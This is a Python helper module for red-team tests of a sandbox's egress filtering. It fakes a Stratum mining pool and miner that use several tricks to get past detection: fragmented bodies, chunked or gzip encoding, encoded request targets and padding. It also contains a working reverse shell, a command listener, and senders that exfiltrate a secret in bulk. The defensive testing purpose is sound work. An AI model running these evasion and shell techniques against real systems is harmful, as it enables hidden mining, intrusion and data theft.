"""Programs of the red-team modules (tests/security/test_redteam_*.py): a lenient pool that speaks Stratum over
HTTP keep-alive, and the miner in the sandbox that talks to it. Fake both: no real mining software.

The pool (`pool_main`, in the internet namespace) serves HTTP/1.1 keep-alive on the addresses it is given. It reads
each request's body (Content-Length or chunked) as the next piece of one Stratum stream per connection, the way a
lenient server that concatenates request bodies would, answers each complete line (subscribe, authorize, submit:
``share accepted`` in its log) and hands its own Stratum stream back cut into the response bodies, ``PIECE`` bytes
per response, so no single body holds a whole message either way.

The miner (`miner_main`, in the sandbox) opens one keep-alive connection, sends one ordinary GET first, then
POSTs its Stratum stream ``PIECE`` bytes per request (``chunked``: each body with Transfer-Encoding: chunked,
which the front's fast path does not take, so mitmproxy carries the connection from there on), and keeps polling
until the pool answered its share (``share answered``) or the connection ends.
"""

from __future__ import annotations

import gzip
import json
import socket
import sys
import threading
from collections.abc import Callable
from urllib.parse import quote_from_bytes, unquote_to_bytes

from tests.security.redteam_wire import miner_argv

# re-exported (the "as" is PEP 484's explicit form, which mypy needs): redteam_uper_kit imports it from here
from tests.security.redteam_wire import serve_pools as serve_pools  # noqa: PLC0414

PIECE = 7
"""Bytes of Stratum per request body and per response body."""
PADDING = 20 * 1024
"""Bytes of JSON whitespace the ``padded`` miner sends in one body inside its first message."""
SUBMIT_ID = 4
NOTIFY = {"id": None, "method": "mining.notify",
          "params": ["job1", "00" * 32, "01", "02", [], "20000000", "1d00ffff", "5f5e1000", True]}  # fmt: skip
"""The pool's one job (``job1``), which the miner's share names."""
CLIENT_STREAM = (
    b'{"id":1,"method":"mining.subscribe","params":["redteam/1.0"]}\n'
    b'{"id":2,"method":"mining.authorize","params":["wallet.redteam","x"]}\n'
    b'{"id":4,"method":"mining.submit","params":["wallet.redteam","job1","00000001","5f5e1000","deadbeef"]}\n'
)


def _fill(conn: socket.socket, buf: bytearray, done: Callable[[bytearray], bool]) -> bool:
    """Read from ``conn`` into ``buf`` until ``done(buf)``; False if the connection ends first."""
    while not done(buf):
        data = conn.recv(65536)
        if not data:
            return False
        buf += data
    return True


def _take_head(conn: socket.socket, buf: bytearray) -> list[str] | None:
    """The lines of the next HTTP head in ``buf`` (read from ``conn`` as needed), taken out of it; None at the end."""
    if not _fill(conn, buf, lambda got: b"\r\n\r\n" in got):
        return None
    end = buf.index(b"\r\n\r\n")
    head = bytes(buf[:end]).decode("latin-1").split("\r\n")
    del buf[: end + 4]
    return head


def _take(conn: socket.socket, buf: bytearray, size: int) -> bytes | None:
    """The next ``size`` bytes of ``buf`` (read from ``conn`` as needed), taken out of it; None at the end."""
    if not _fill(conn, buf, lambda got: len(got) >= size):
        return None
    taken = bytes(buf[:size])
    del buf[:size]
    return taken


def _read_request(conn: socket.socket, buf: bytearray) -> tuple[str, bytes] | None:
    """One request's target and body from ``conn`` (``buf``: bytes read past the previous one); None at the end."""
    head = _take_head(conn, buf)
    if head is None:
        return None
    target = head[0].split(" ")[1] if head[0].count(" ") >= 2 else ""
    fields = {line.split(":", 1)[0].strip().lower(): line.split(":", 1)[1].strip() for line in head[1:] if ":" in line}
    if "chunked" in fields.get("transfer-encoding", "").lower():
        chunked = _read_chunked(conn, buf)
        return None if chunked is None else (target, chunked)
    body = _take(conn, buf, int(fields.get("content-length", "0")))
    if body is None:
        return None
    if fields.get("content-encoding", "").lower() == "gzip":
        body = gzip.decompress(body)
    return target, body


def _read_chunked(conn: socket.socket, buf: bytearray) -> bytes | None:
    """A chunked body from ``conn`` (``buf``: its bytes read so far); None at the end."""
    chunks = bytearray()
    while True:
        if not _fill(conn, buf, lambda got: b"\r\n" in got):
            return None
        line_end = buf.index(b"\r\n")
        size = int(bytes(buf[:line_end]).split(b";")[0], 16)
        del buf[: line_end + 2]
        chunk = _take(conn, buf, size + 2)
        if chunk is None:
            return None
        chunks += chunk[:size]
        if size == 0:
            return bytes(chunks)


def _answer(line: bytes, out: bytearray, whole: bool = False) -> None:
    """Answer one Stratum line into ``out``; ``whole``: as a pool that sends no job and names no method in its
    subscribe answer (``[null, extranonce1, size]``, which miners take), so each answer may travel whole."""
    try:
        message = json.loads(line)
    except ValueError:
        return
    method, ident = message.get("method"), message.get("id")
    if method == "mining.subscribe" and whole:
        reply = {"id": ident, "result": [None, "08000002", 4]}
    elif method == "mining.subscribe":
        reply = {"id": ident, "result": [[["mining.notify", "ae6812eb4cd7735a302a8a9dd95cf71f"]], "08000002", 4]}
    elif method == "mining.authorize" and whole:
        reply = {"id": ident, "result": True}
    elif method == "mining.authorize":
        reply = {"id": ident, "result": True}
        out += json.dumps(reply).encode() + b"\n"
        reply = NOTIFY
    elif method == "mining.submit":
        reply = {"id": ident, "result": True, "error": None}
        print("share accepted", message.get("params"), flush=True)
    else:
        return
    print("pool answered", method, flush=True)
    out += json.dumps(reply).encode() + b"\n"


def _serve(conn: socket.socket) -> None:
    buf, stratum, out = bytearray(), bytearray(), bytearray()
    while True:
        request = _read_request(conn, buf)
        if request is None:
            return
        target, body = request
        if target == "/job":  # the job alone, in the reason phrase of an empty answer to a plain GET
            notify = json.dumps(NOTIFY, separators=(",", ":")).encode()
            conn.sendall(b"HTTP/1.1 200 %s\r\nContent-Type: text/plain\r\nContent-Length: 0\r\n\r\n" % notify)
            continue
        message = _from_target(target)
        if message.startswith(("{", "[")):  # a message in the request target (path or query): answered whole
            answer = bytearray()
            _answer(message.encode("latin-1"), answer, whole=True)
            reason = b"OK"
            if b'"mining.authorize"' in target.encode("latin-1"):
                reason = json.dumps(NOTIFY, separators=(",", ":")).encode()  # the job, in the reason phrase
            head = b"HTTP/1.1 200 %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % (
                reason,
                len(answer),
            )
            conn.sendall(head + answer)
            continue
        stratum += body
        while b"\n" in stratum:
            line_end = stratum.index(b"\n")
            _answer(bytes(stratum[:line_end]), out)
            del stratum[: line_end + 1]
        piece = bytes(out[:PIECE])
        del out[:PIECE]
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(piece)
        conn.sendall(head + piece)


def _from_target(target: str) -> str:
    """The message a lenient pool reads in a request target: from its first bracket, percent-decoded as often as
    it takes (up to three times)."""
    raw = target.encode("latin-1")
    for _ in range(3):
        raw = unquote_to_bytes(raw)
    text = raw.decode("latin-1")
    starts = [at for at in (text.find("{"), text.find("[")) if at >= 0]
    return text[min(starts) :] if starts else ""


TARGET_FORMS = {
    "target": lambda line: b"/" + line,
    "query": lambda line: b"/x?" + line,
    "pct": lambda line: b"/" + quote_from_bytes(line, safe="").encode(),
    "pct2": lambda line: b"/" + quote_from_bytes(quote_from_bytes(line, safe="").encode(), safe="").encode(),
    "segment": lambda line: b"/api/v1;v=" + line.replace(b"/", b"%2F"),
    "escaped": lambda line: b"/?q=1&" + quote_from_bytes(line.replace(b'"method"', b'"\\u006dethod"')).encode(),
}
"""How a Stratum line rides in a request target (``miner_main``'s HOW, before any ``-chunked``)."""


def pool_main() -> None:
    """``python -c '...pool_main()' ADDRESS:PORT...``: serve until killed."""
    serve_pools(_serve)


def _response(conn: socket.socket, buf: bytearray) -> tuple[bytes, bytes] | None:
    """(status line, body) of one Content-Length response (egress's 403 included); None at the end."""
    head = _take_head(conn, buf)
    if head is None:
        return None
    length = next((int(line.split(":", 1)[1]) for line in head if line.lower().startswith("content-length:")), 0)
    body = _take(conn, buf, length)
    return None if body is None else (head[0].encode(), body)


def miner_main() -> None:
    """``python -c '...miner_main()' ADDRESS|- PORT HOST HOW`` (``-``: resolve HOST; HOW: fast, chunked, a
    `TARGET_FORMS` key, with ``-chunked`` or not, or reason: a GET whose answer's reason phrase is the job; or a
    cut stream's variant: escaped keys, padded past the window, gzip-coded pieces)."""
    address, port, host, (how,) = miner_argv()
    conn = socket.create_connection((address, port), timeout=10)
    buf, received = bytearray(), bytearray()
    conn.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    first = _response(conn, buf)
    print("first answer", first[0] if first else None, flush=True)
    form = how.removesuffix("-chunked")
    if form in TARGET_FORMS:
        _in_targets(conn, buf, host, chunked=how.endswith("chunked"), shape=TARGET_FORMS[form])
        return
    if how == "reason":
        _job_in_reason(conn, buf, host)
        return
    pending = CLIENT_STREAM
    if how == "escaped":  # the keys escaped as JSON allows (\u006d is "m"): what a lenient pool reads the same
        pending = CLIENT_STREAM.replace(b'"method"', b'"\\u006dethod"')
    for turn in range(400):
        piece, pending = pending[:PIECE], pending[PIECE:]
        if how == "padded" and turn == 1:  # JSON whitespace past the detectors' window, inside the first message
            piece, pending = b" " * PADDING, piece + pending
        request = _post(host, piece, how)
        try:
            conn.sendall(request)
            answer = _response(conn, buf)
        except OSError as exc:
            print("connection failed", exc, flush=True)
            return
        if answer is None or not answer[0].startswith(b"HTTP/1.1 200"):
            print("stopped", answer, flush=True)
            return
        received += answer[1]
        for line in bytes(received).split(b"\n")[:-1]:
            message = json.loads(line)
            if message.get("id") == SUBMIT_ID and message.get("result") is True:
                print("share answered", flush=True)
                return
    print("gave up", bytes(received)[:400], flush=True)


def _post(host: str, piece: bytes, how: str) -> bytes:
    """A POST carrying ``piece``: Content-Length, chunked (``chunked``) or gzip-coded (``gzip``: each piece its own
    member, which mitmproxy decodes, and so does the pool)."""
    head = f"POST /work HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
    if how == "gzip":
        piece = gzip.compress(piece)
        head += "Content-Encoding: gzip\r\n"
    if how == "chunked":
        body = (b"%x\r\n%s\r\n" % (len(piece), piece) if piece else b"") + b"0\r\n\r\n"
        return (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + body
    return (head + f"Content-Length: {len(piece)}\r\n\r\n").encode() + piece


def _job_in_reason(conn: socket.socket, buf: bytearray, host: str) -> None:
    """A plain GET whose answer carries the pool's job in its reason phrase."""
    conn.sendall(f"GET /job HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answer = _response(conn, buf)
    print("answer", answer, flush=True)
    if answer is not None and b'"mining.notify"' in answer[0]:
        print("job received in the reason phrase", flush=True)


def _in_targets(conn: socket.socket, buf: bytearray, host: str, chunked: bool, shape: Callable[[bytes], bytes]) -> None:
    """Each Stratum message whole, as the request target of a GET, shaped by ``shape`` (`TARGET_FORMS`: ``GET
    /{"id":1,...} HTTP/1.1``, the whole query ``GET /x?{"id":1,...}``, percent-encoded once or twice...);
    ``chunked``: with an empty chunked body, which the front's fast path does not take (mitmproxy carries it)."""
    tail = b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" if chunked else b"\r\n"
    for line in CLIENT_STREAM.splitlines():
        target = shape(line.replace(b" ", b""))
        conn.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\n%s" % (target, host.encode(), tail))
        answer = _response(conn, buf)
        print("answer", answer, flush=True)
        if answer is not None and b'"mining.notify"' in answer[0]:
            print("job received in the reason phrase", flush=True)
        if answer is None or not answer[0].startswith(b"HTTP/1.1 200"):
            return
        if json.loads(answer[1] or b"{}").get("id") == SUBMIT_ID and json.loads(answer[1]).get("result") is True:
            print("share answered", flush=True)


SHELL_HELLO = b"shell ready\n"
SHELL_COMMANDS = (b"echo SHELL-$((6*7))\n", b"id -u\n", b"exit\n")
"""What the attacker types into the reverse shell, one line at a time, each after the previous answer."""
BULK_LINE = 64
"""Hex characters of the secret per line of the bulk exfiltration (a plain text line protocol)."""


def listener_main() -> None:
    """``python -c '...listener_main()' ADDRESS:PORT``: a reverse-shell listener and bulk sink. A connection that
    opens with ``SHELL_HELLO`` is a shell: it gets the commands, one per answer, its answers logged (``shell said
    ...``); any other is a sink (logged as ``got N bytes``)."""
    address, port = sys.argv[1].rsplit(":", 1)
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, int(port)))
    listener.listen(16)
    print("listening", flush=True)
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=_listen, args=(conn,), daemon=True).start()


def _listen(conn: socket.socket) -> None:
    with conn:
        conn.settimeout(10)
        first = conn.recv(65536)
        if not first.startswith(SHELL_HELLO):
            total = len(first)
            while data := conn.recv(65536):
                total += len(data)
            print(f"got {total} bytes", flush=True)
            return
        for command in SHELL_COMMANDS:
            conn.sendall(command)
            try:
                answer = conn.recv(4096)
            except OSError:
                return
            print("shell said", answer, flush=True)
            if not answer:
                return


def shell_main() -> None:
    """``python -c '...shell_main()' ADDRESS PORT``: a reverse shell (``sh`` on the connection's descriptor)."""
    import subprocess

    conn = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
    conn.sendall(SHELL_HELLO)  # a reverse shell's prompt: the client speaks first
    subprocess.run(["sh"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=subprocess.STDOUT, timeout=30, check=False)


def bulk_main() -> None:
    """``python -c '...bulk_main()' ADDRESS PORT CONNECTIONS BYTES SECRET_HEX``: BYTES of lines of the secret's hex
    on each of CONNECTIONS connections; prints how many connections wrote everything and got the server's close."""
    address, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[5]
    connections, size = int(sys.argv[3]), int(sys.argv[4])
    line = (secret * (BULK_LINE // len(secret) + 1))[:BULK_LINE].encode() + b"\n"
    whole = 0
    for _ in range(connections):
        try:
            with socket.create_connection((address, port), timeout=10) as conn:
                conn.sendall(line * (size // len(line)))
                conn.shutdown(socket.SHUT_WR)
                conn.recv(1)
                whole += 1
        except OSError as exc:
            print("connection failed", exc, flush=True)
    print(f"sent whole on {whole} connections", flush=True)


def post_main() -> None:
    """``python -c '...post_main()' ADDRESS PORT SECRET_HEX``: the same secret as one HTTP POST (the control: the
    rule does not expect HTTP); prints the answer's status line or why there was none."""
    address, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
    try:
        with socket.create_connection((address, port), timeout=10) as conn:
            head = b"POST /drop HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (address.encode(), len(secret))
            conn.sendall(head + secret)
            print("answer", conn.recv(200).split(b"\r\n", 1)[0], flush=True)
    except OSError as exc:
        print("connection failed", exc, flush=True)


OPENINGS = {
    "tls-record-header": b"\x16\x03\x01\x00\x05",
    "ssh-banner": b"SSH-2.0-OpenSSH_9.6\r\n",
    "json-lines": b'{"jsonrpc":"2.0","id":1,"method":"log.write","params":["',
    "blank-lines": b"\r\n" * 8,
    "one-byte-first": b"5",
}
"""What a bulk sender puts before its lines to slip past a refusal at the opening (``opening_main``)."""


def opening_main() -> None:
    """``python -c '...opening_main()' ADDRESS PORT VARIANT SECRET_HEX``: an `OPENINGS` opening, then 12 KiB of
    lines of the secret on one connection (``one-byte-first``: its first byte alone, the rest 0.3 s later)."""
    address, port, variant, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    line = (secret * (BULK_LINE // len(secret) + 1))[:BULK_LINE].encode() + b"\n"
    data = OPENINGS[variant] + line * (12 * 1024 // len(line))
    try:
        with socket.create_connection((address, port), timeout=10) as conn:
            conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if variant == "one-byte-first":
                conn.sendall(data[:1])
                threading.Event().wait(0.3)
                data = data[1:]
            conn.sendall(data)
            conn.shutdown(socket.SHUT_WR)
            print("answer", conn.recv(200), flush=True)
    except OSError as exc:
        print("connection failed", exc, flush=True)
